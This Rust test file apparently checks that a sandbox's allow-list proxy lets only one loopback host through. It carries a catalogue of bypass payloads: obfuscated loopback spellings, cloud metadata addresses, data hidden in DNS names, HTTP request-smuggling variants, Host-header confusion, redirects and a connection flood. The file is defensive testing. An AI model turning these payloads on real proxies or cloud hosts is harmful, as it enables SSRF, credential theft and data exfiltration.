//! Carrying data past an allow-list: the door lets one host through, and must let
//! nobody else through, however it is asked.
//!
//! Every host here is this one's loopback: one server is allowed, another is not,
//! and the second one must never be visited.

use std::io::{self, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use crate::attack::attempt::{Attempt, Bounds, Family, Verdict};
use crate::attack::guest::Guest;
use crate::attack::host::{Ear, heard_text};
use crate::attack::stage::{Stage, judge};
use crate::attack::sys;

const FAMILY: Family = Family::Door;
/// Where the door is, inside.
const DOOR: &str = "127.0.0.1:3128";

pub(super) const ATTEMPTS: &[Attempt] = &[
    Attempt {
        name: "door-other-port",
        family: FAMILY,
        tries: "CONNECT to another port of the allowed host",
        bounds: Bounds::USUAL,
        guest: |guest| {
            works(guest);
            tunnel(guest, &format!("127.0.0.1:{}", guest.argument(2)));
        },
        outside: only_the_allowed,
    },
    Attempt {
        name: "door-spellings",
        family: FAMILY,
        tries: "CONNECT to loopback spelt in decimal, hexadecimal, octal, short, mapped and by name",
        bounds: Bounds::USUAL,
        guest: |guest| {
            works(guest);
            let port = guest.argument(2);
            for host in [
                "2130706433",
                "0x7f000001",
                "0x7f.0.0.1",
                "0177.0.0.1",
                "017700000001",
                "127.1",
                "127.0.1",
                "0",
                "0.0.0.0",
                "127.0.0.2",
                "[::1]",
                "[::]",
                "[::ffff:127.0.0.1]",
                "[::ffff:7f00:1]",
                "[64:ff9b::7f00:1]",
                "[2002:7f00:1::]",
                "localhost",
                "localhost.",
                "LOCALHOST",
                "127.0.0.1.",
                "1.0.0.127.in-addr.arpa",
                "\u{ff11}27.0.0.1",
                "127.0.0.1%00.example.org",
                "127.0.0.1#@example.org",
                "user@127.0.0.1",
            ] {
                tunnel(guest, &format!("{host}:{port}"));
            }
        },
        outside: only_the_allowed,
    },
    Attempt {
        name: "door-metadata",
        family: FAMILY,
        tries: "ask the door for the metadata services of clouds, in several spellings",
        bounds: Bounds::USUAL,
        guest: |guest| {
            works(guest);
            for host in [
                "169.254.169.254",
                "2852039166",
                "0xa9fea9fe",
                "0251.0376.0251.0376",
                "[::ffff:169.254.169.254]",
                "[fd00:ec2::254]",
                "100.100.100.200",
            ] {
                tunnel(guest, &format!("{host}:80"));
                fetch(guest, &format!("http://{host}/latest/meta-data/"));
            }
        },
        outside: only_the_allowed,
    },
    Attempt {
        name: "door-unlisted",
        family: FAMILY,
        tries: "ask the door for hosts that are not listed, data in their names",
        bounds: Bounds::USUAL,
        guest: |guest| {
            works(guest);
            // Names that exist nowhere (RFC 2606), should one be resolved after all.
            for host in
                ["unlisted.invalid", "c2VjcmV0.unlisted.invalid", "127.0.0.1.unlisted.invalid"]
            {
                tunnel(guest, &format!("{host}:443"));
                fetch(guest, &format!("http://{host}/"));
            }
        },
        outside: only_the_allowed,
    },
    Attempt {
        name: "door-smuggling",
        family: FAMILY,
        tries: "hide a request for a second host in the connection of an allowed one",
        bounds: Bounds::USUAL,
        guest: smuggle,
        outside: only_the_allowed,
    },
    Attempt {
        name: "door-host-header",
        family: FAMILY,
        tries: "name one host in the request line and another in the Host header",
        bounds: Bounds::USUAL,
        guest: |guest| {
            works(guest);
            let (allowed, other) = (guest.argument(1), guest.argument(2));
            for request in [
                format!(
                    "GET http://127.0.0.1:{other}/ HTTP/1.1\r\nHost: 127.0.0.1:{allowed}\r\n\r\n"
                ),
                format!("GET / HTTP/1.1\r\nHost: 127.0.0.1:{other}\r\n\r\n"),
                format!(
                    "GET http://127.0.0.1:{allowed}@127.0.0.1:{other}/ HTTP/1.1\r\nHost: x\r\n\r\n"
                ),
                format!("CONNECT 127.0.0.1:{other} HTTP/1.1\r\nHost: 127.0.0.1:{allowed}\r\n\r\n"),
                format!("GET ftp://127.0.0.1:{other}/ HTTP/1.1\r\nHost: 127.0.0.1:{other}\r\n\r\n"),
            ] {
                let answer = ask(request.as_bytes());
                refused(guest, request.lines().next().unwrap_or_default(), answer);
            }
        },
        outside: only_the_allowed,
    },
    Attempt {
        name: "door-redirect",
        family: FAMILY,
        tries: "have the allowed host redirect the door to another one",
        bounds: Bounds::USUAL,
        guest: |guest| {
            let answer = ask(request("GET", guest.argument(1), "/redirect").as_bytes());
            let passed_on = answer.as_ref().is_ok_and(|text| text.starts_with("HTTP/1.1 302"));
            match answer {
                Ok(text) if !passed_on => guest.unclear("redirect", first_line(&text)),
                Ok(_) => guest.held("redirect", "was handed to the guest, not followed"),
                Err(error) => guest.unclear("redirect", error.to_string()),
            }
        },
        outside: only_the_allowed,
    },
    Attempt {
        name: "door-is-all",
        family: FAMILY,
        tries: "go round the door: connect to the hosts directly",
        bounds: Bounds::USUAL,
        guest: |guest| {
            works(guest);
            for port in [guest.argument(1), guest.argument(2)] {
                let direct = TcpStream::connect(format!("127.0.0.1:{port}"));
                guest.refused_by(port, direct, &[libc::ECONNREFUSED]);
            }
            let away = TcpStream::connect_timeout(
                &std::net::SocketAddr::from(([192, 0, 2, 1], 80)),
                Duration::from_millis(500),
            );
            guest.refused("192.0.2.1", away);
        },
        outside: only_the_allowed,
    },
    Attempt {
        name: "door-flood",
        family: FAMILY,
        tries: "hold more connections to the door than it has places",
        bounds: Bounds { pids: 32, ..Bounds::USUAL },
        guest: |guest| {
            let mut held = Vec::new();
            for _ in 0..400 {
                match TcpStream::connect(DOOR) {
                    Ok(stream) => held.push(stream),
                    Err(_) => break,
                }
            }
            let count = held.len();
            drop(held);
            sys::sleep_ms(100);
            works(guest);
            guest.held("flood", format!("{count} connections, and the door works on"));
        },
        outside: only_the_allowed,
    },
];

/// The allowed host must answer, or the attempt shows nothing.
fn works(guest: &Guest) {
    match ask(request("GET", guest.argument(1), "/").as_bytes()) {
        Ok(text) if text.starts_with("HTTP/1.1 200") => guest.held("the allowed host", "answers"),
        Ok(text) => guest.unclear("the allowed host", first_line(&text)),
        Err(error) => guest.unclear("the allowed host", error.to_string()),
    }
}

fn request(method: &str, port: &str, path: &str) -> String {
    format!(
        "{method} http://127.0.0.1:{port}{path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\
         Connection: close\r\n\r\n"
    )
}

fn ask(request: &[u8]) -> io::Result<String> {
    let mut door = TcpStream::connect(DOOR)?;
    // Others may still wait in the line; a slow machine works it off slowly.
    door.set_read_timeout(Some(Duration::from_secs(8)))?;
    door.write_all(request)?;
    let mut answer = Vec::new();
    let mut piece = [0; 4096];
    // Until the door closes, or says nothing more for a while after it answered.
    loop {
        match door.read(&mut piece) {
            Ok(0) => break,
            Ok(length) => {
                answer.extend_from_slice(&piece[..length]);
                door.set_read_timeout(Some(Duration::from_millis(150)))?;
            }
            Err(_) if !answer.is_empty() => break,
            Err(error) if error.kind() == io::ErrorKind::ConnectionReset => break,
            Err(error) => return Err(error),
        }
    }
    Ok(String::from_utf8_lossy(&answer).into_owned())
}

fn tunnel(guest: &Guest, target: &str) {
    let request = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n");
    refused(guest, target, ask(request.as_bytes()));
}

fn fetch(guest: &Guest, url: &str) {
    let request = format!("GET {url} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    refused(guest, url, ask(request.as_bytes()));
}

/// The door's answer is a refusal: 4xx, or 502 for a name that nobody has.
fn refused(guest: &Guest, what: &str, answer: io::Result<String>) {
    match answer {
        Ok(text) if text.is_empty() => guest.held(what, "closed"),
        Ok(text) => {
            let status = text.split(' ').nth(1).unwrap_or_default().to_owned();
            let is_refusal = status.starts_with('4');
            guest.expect(what, is_refusal, first_status(&text));
        }
        Err(error) => guest.unclear(what, error.to_string()),
    }
}

fn first_line(text: &str) -> String {
    text.lines().next().unwrap_or_default().to_owned()
}

fn first_status(text: &str) -> String {
    first_line(text).split(' ').take(2).collect::<Vec<_>>().join(" ")
}

fn smuggle(guest: &Guest) {
    works(guest);
    let (allowed, other) = (guest.argument(1), guest.argument(2));
    let head = |more: &str| {
        format!(
            "POST http://127.0.0.1:{allowed}/ HTTP/1.1\r\nHost: 127.0.0.1:{allowed}\r\n{more}\r\n"
        )
    };
    let hidden =
        format!("GET http://127.0.0.1:{other}/hidden HTTP/1.1\r\nHost: 127.0.0.1:{other}\r\n\r\n");
    let size = hidden.len();
    for (what, text) in [
        ("pipelined", head("Content-Length: 0\r\n") + &hidden),
        (
            "CL and TE",
            head(&format!("Content-Length: {size}\r\nTransfer-Encoding: chunked\r\n"))
                + "0\r\n\r\n"
                + &hidden,
        ),
        (
            "TE and CL",
            head("Transfer-Encoding: chunked\r\nContent-Length: 4\r\n") + "0\r\n\r\n" + &hidden,
        ),
        (
            "two lengths",
            head(&format!("Content-Length: 0\r\nContent-Length: {size}\r\n")) + &hidden,
        ),
        ("odd chunked", head("Transfer-Encoding: xchunked\r\n") + "0\r\n\r\n" + &hidden),
        (
            "bare line feed",
            format!("GET http://127.0.0.1:{allowed}/ HTTP/1.1\nHost: x\n\n{hidden}"),
        ),
        (
            "line feed in a header",
            head(&format!("X: y\n\nGET http://127.0.0.1:{other}/hidden HTTP/1.1\r\n")),
        ),
        ("space before the colon", head(&format!("Content-Length : {size}\r\n")) + &hidden),
        ("upgrade", head("Connection: Upgrade\r\nUpgrade: h2c\r\n") + &hidden),
    ] {
        // What matters is who is visited, which the host sees.
        match ask(text.as_bytes()) {
            Ok(answer) => guest.held(what, first_status(&answer)),
            Err(error) => guest.unclear(what, error.to_string()),
        }
    }
}

/// Two servers on the host; the door is for the first. The second must hear nothing.
fn only_the_allowed(stage: &Stage<'_>) -> Verdict {
    let scene = || -> io::Result<(TcpListener, u16, Ear, u16)> {
        let server = TcpListener::bind("127.0.0.1:0")?;
        server.set_nonblocking(true)?;
        let ear = Ear::open()?;
        let (allowed, other) = (server.local_addr()?.port(), ear.tcp_port()?);
        Ok((server, allowed, ear, other))
    };
    let (server, allowed, ear, other) = match scene() {
        Ok(scene) => scene,
        Err(error) => return Verdict::Inconclusive(format!("no server on the host: {error}")),
    };
    let over = AtomicBool::new(false);
    let result = std::thread::scope(|scope| {
        scope.spawn(|| serve(&server, other, &over));
        let result = stage
            .jail()
            .allow_host(&format!("127.0.0.1:{allowed}"))
            .role(&["", &allowed.to_string(), &other.to_string()])
            .run();
        over.store(true, Ordering::Relaxed);
        result
    });
    let heard = ear.heard();
    judge(&result).and(Verdict::held_if(heard.is_empty(), heard_text(&heard)))
}

/// Answers everything with a word, and `/redirect` with the way to the other server. Each
/// connection for itself: some are held open in silence, and others must not wait for them.
fn serve(server: &TcpListener, other: u16, over: &AtomicBool) {
    while !over.load(Ordering::Relaxed) {
        match server.accept() {
            Ok((stream, _)) => drop(std::thread::spawn(move || answer(stream, other))),
            Err(_) => sys::sleep_ms(2),
        }
    }
}

fn answer(mut stream: TcpStream, other: u16) {
    let _ = stream.set_nonblocking(false);
    let _ = stream.set_read_timeout(Some(Duration::from_secs(4)));
    let mut bytes = [0; 4096];
    let length = stream.read(&mut bytes).unwrap_or(0);
    let answer = if String::from_utf8_lossy(&bytes[..length]).contains("/redirect") {
        format!(
            "HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:{other}/\r\n\
             Content-Length: 0\r\nConnection: close\r\n\r\n"
        )
    } else {
        "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok".to_owned()
    };
    let _ = stream.write_all(answer.as_bytes());
}
